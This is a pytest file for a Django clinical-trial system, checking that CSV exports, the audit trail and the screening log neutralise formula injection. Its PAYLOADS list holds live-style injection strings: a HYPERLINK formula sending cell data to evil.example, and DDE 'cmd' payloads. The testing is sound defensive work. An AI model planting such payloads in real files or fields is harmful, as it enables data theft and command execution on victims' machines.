"""CSV formula injection (OWASP): no cell of any CSV the system writes begins with a formula
trigger — exported form tables (written by COPY), the analysis table, the dictionary, the audit
trail CSV, the screening log CSV."""

import csv
import io
import os
import re
import stat
import zipfile
import zoneinfo
from datetime import timedelta

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from core.csvsafe import neutralise, sql_neutralise

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_prefixed_with_a_quote(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-3.5", "+2", "-1e-3", "3.0", "", "plain text", "a=b", 7, -3.5, None])
def test_plain_numbers_and_harmless_text_are_kept(value):
    assert neutralise(value) == value


@pytest.mark.django_db
def test_postgresql_applies_the_same_rule():
    values = [*PAYLOADS, "-3.5", "+2", "-1e-3", "text", "a=b", "-", "=", "@"]
    with connection.cursor() as cursor:
        for v in values:
            cursor.execute(f"SELECT {sql_neutralise('v')} FROM (SELECT %s::text AS v) t", [v])
            assert cursor.fetchone()[0] == neutralise(v), v


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(cells, payload):
    assert "'" + payload in cells, f"{payload!r} not found neutralised"
    assert payload not in cells


@pytest.fixture
def subject(personas, sites):
    from randomization.services import (
        allocation_list_generate,
        allocation_list_set_active,
        subject_randomize,
    )
    from tests.factories import make_confirmed_screening

    lst = allocation_list_generate(user=personas["statistician"], seed="csv", entries_per_stratum=4,
                                   site_codes=["001"])
    allocation_list_set_active(user=personas["statistician"], allocation_list=lst, active=True)
    s = make_confirmed_screening(site=sites["001"], coordinator=personas["coord001"],
                                 investigator=personas["inv001"])
    from core.models import Subject

    allocation = subject_randomize(screening=s, user=personas["coord001"], notify=False)
    return Subject.objects.get(pk=allocation.subject_id)


def test_exported_form_tables_neutralise_injection_payloads_and_files_are_private(
        personas, subject, settings, tmp_path, django_capture_on_commit_callbacks):
    from exports.services import export_request, export_run
    from followup import services as fu

    settings.EDC_EXPORT_DIR = tmp_path / "exports"
    today = timezone.localdate(timezone=zoneinfo.ZoneInfo("Asia/Shanghai"))
    fu.adverse_event_save(subject=subject, user=personas["coord001"], data={"term": PAYLOADS[0], "onset_on": today})
    fu.deviation_save(subject=subject, user=personas["coord001"],
                      data={"occurred_on": today - timedelta(days=0), "category": "other", "description": PAYLOADS[3]})
    with django_capture_on_commit_callbacks(execute=False):
        export = export_request(user=personas["statistician"], formats=["csv"], blinded=False, dispatch=False)
        export = export_run(export_id=export.pk)
    path = settings.EDC_EXPORT_DIR / export.file_name
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(settings.EDC_EXPORT_DIR).st_mode) == 0o700
    with zipfile.ZipFile(path) as z:
        texts = {n: z.read(n).decode("utf-8-sig") for n in z.namelist() if n.endswith(".csv")}
        readme = z.read("README.txt").decode()
    assert re.search(r"Audit chain head: link \d+ hash ", readme)  # the archive names the chain head
    all_cells = [c for t in texts.values() for c in _cells(t)]
    _assert_neutralised(all_cells, PAYLOADS[0])
    _assert_neutralised(all_cells, PAYLOADS[3])
    assert not any(c.startswith(("=", "+", "@")) for c in all_cells)
    # numbers stay numbers
    assert any(c.lstrip("-").replace(".", "").isdigit() for c in all_cells)


def test_audit_trail_csv_neutralises_reasons_and_values(personas, subject, client_for):
    from followup import services as fu

    today = timezone.localdate(timezone=zoneinfo.ZoneInfo("Asia/Shanghai"))
    ae = fu.adverse_event_save(subject=subject, user=personas["coord001"], data={"term": "headache", "onset_on": today})
    fu.adverse_event_save(subject=subject, user=personas["coord001"], pk=ae.pk, version=ae.version,
                          data={"term": PAYLOADS[1], "onset_on": today}, reason=PAYLOADS[2])
    response = client_for("datamanager").get(reverse("datamanagement:audit") + "?format=csv")
    cells = _cells(response.content.decode())
    _assert_neutralised(cells, PAYLOADS[1])
    _assert_neutralised(cells, PAYLOADS[2])


def test_screening_log_csv_neutralises_free_text(personas, sites, client_for):
    from eligibility.services import screening_close
    from tests.factories import make_screening

    s = make_screening(site=sites["001"], coordinator=personas["coord001"], age_years=17)
    screening_close(screening=s, user=personas["coord001"], reason="other", text=PAYLOADS[0])
    response = client_for("coord001").get(reverse("eligibility:log") + "?format=csv")
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content).decode())
    _assert_neutralised(cells, PAYLOADS[0])
